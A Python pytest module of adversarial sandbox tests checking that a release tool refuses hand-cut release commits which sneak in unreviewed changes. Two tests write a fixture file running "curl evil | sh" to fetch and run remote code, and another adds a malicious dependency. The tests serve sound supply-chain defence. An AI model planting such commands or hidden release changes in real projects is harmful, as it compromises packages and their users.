"""What ships was reviewed: release commits an SDK committer cuts by hand, against the sandbox.

Everyone who can push a branch to the SDK repository can make a release commit (and,
holding the request App's token in a workflow of their own, a request for it). These
play it with real git pushes to the sandbox: the release commit sits on a commit only
the attacker's branch has, carries a change besides the version bump, or is a merge.
Publish refuses each from GitHub's compare before anything is downloaded, and says on
the issue which files and how to fix it.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.sandbox.helpers import clone, git
from tests.sandbox.test_trust_attacks import BRANCH, Org, org_fixture  # noqa: F401 - a fixture
from valet import summary

pytestmark = [pytest.mark.sandbox, pytest.mark.adversarial]

FIX = "merge the change into main through a reviewed pull request, then run the release " \
    "workflow again"


def checkout(org: Org) -> Path:
    """The SDK repository cloned as a committer, on main."""
    work = clone(org.sdk.clone_url, org.tmp / "work")
    git(work, "config", "user.name", "mallory")
    git(work, "config", "user.email", "mallory@valet.invalid")
    git(work, "checkout", "-q", "main")
    return work


def write(work: Path, path: str, text: str) -> None:
    (work / path).parent.mkdir(parents=True, exist_ok=True)
    (work / path).write_text(text)
    git(work, "add", path)


def bump_version(work: Path) -> None:
    text = (work / "pyproject.toml").read_text()
    write(work, "pyproject.toml", text.replace('version = "1.2.2"', 'version = "1.2.3"'))


def release(org: Org, work: Path, ref: str = "HEAD") -> str:
    """Push ``ref`` as the release branch and make it the request's release commit (CI
    green on it, so the review is the only thing that can refuse it)."""
    sha = git(work, "rev-parse", ref).strip()
    git(work, "push", "-q", "--force", "origin", f"{sha}:refs/heads/{BRANCH}")
    org.sha = sha
    org.sb.admin.set_ci(org.sdk.full_name, sha, check_runs=[
        {"name": "tests", "status": "completed", "conclusion": "success"}])
    return sha


def refused(org: Org, *why: str) -> None:
    assert org.label() == 0
    org.refused(*why, FIX)
    author, body = org.last_comment()
    assert summary.APPROVED_MARKER not in body
    main = org.sdk.gh().get_branch("main").commit.sha
    assert main == org.base or main != org.sha  # the release did not land either
    assert BRANCH in [b.name for b in org.sdk.gh().get_branches()]


def test_a_release_commit_on_a_commit_only_the_attackers_branch_has(org: Org) -> None:
    work = checkout(org)
    git(work, "checkout", "-q", "-b", "mallory/feature")
    write(work, "src/pkg/evil.py", "import os\nos.system('curl evil | sh')\n")
    git(work, "commit", "-q", "-m", "feat: a feature nobody reviewed")
    git(work, "push", "-q", "origin", "mallory/feature")
    bump_version(work)
    git(work, "commit", "-q", "-m", "release: 1.2.3")
    release(org, work)
    org.request()
    refused(org, "2 commits ahead of the merge target")


def test_a_release_commit_on_main_that_also_changes_source_code(org: Org) -> None:
    work = checkout(org)
    bump_version(work)
    write(work, "src/pkg/evil.py", "import os\nos.system('curl evil | sh')\n")
    git(work, "commit", "-q", "-m", "release: 1.2.3")
    release(org, work)
    org.request()
    refused(org, "src/pkg/evil.py is added")


def test_a_release_commit_that_adds_a_line_to_a_version_file(org: Org) -> None:
    work = checkout(org)
    bump_version(work)
    text = (work / "pyproject.toml").read_text()
    write(work, "pyproject.toml", text + 'dependencies = ["evil-package"]\n')
    git(work, "commit", "-q", "-m", "release: 1.2.3")
    release(org, work)
    org.request()
    refused(org, "pyproject.toml: a line added", "evil-package")


def test_a_release_commit_that_changes_the_configuration(org: Org) -> None:
    """The configuration decides the targets and their registry URLs; publish reads it from
    main, and a release commit may not change it either."""
    work = checkout(org)
    bump_version(work)
    text = (work / ".valet.yml").read_text()
    write(work, ".valet.yml", text + "  - name: crates\n")
    git(work, "commit", "-q", "-m", "release: 1.2.3")
    release(org, work)
    org.request()
    refused(org, ".valet.yml changed")


def test_a_merge_commit_as_release_commit(org: Org) -> None:
    """A merge of two commits main has, one commit ahead of it: not prepare's commit."""
    work = checkout(org)
    write(work, "docs/usage.md", "reviewed\n")
    git(work, "commit", "-q", "-m", "docs: a reviewed change")
    reviewed = git(work, "rev-parse", "HEAD").strip()
    git(work, "push", "-q", "origin", f"{reviewed}:refs/heads/docs")
    # the reviewed pull request landed on main
    org.sb.app.git(org.sb.app.state.repo(*org.sdk.full_name.split("/"))).force_ref(
        "refs/heads/main", reviewed)
    bump_version(work)
    tree = git(work, "write-tree").strip()
    merge = git(work, "commit-tree", tree, "-p", reviewed, "-p", org.base, "-m",
                "release: 1.2.3").strip()
    release(org, work, merge)
    org.request()
    refused(org, "merge commit (2 parents)")


def test_prepares_own_commit_still_publishes(org: Org) -> None:
    """The same way of cutting it, with only the bump: publishes (the baseline of these)."""
    work = checkout(org)
    bump_version(work)
    git(work, "commit", "-q", "-m", "release: 1.2.3")
    release(org, work)
    org.request()
    assert org.label() == 0
    assert sorted(k for c, k in org.reg.calls if c == "publish") == ["github", "npm", "pypi"]
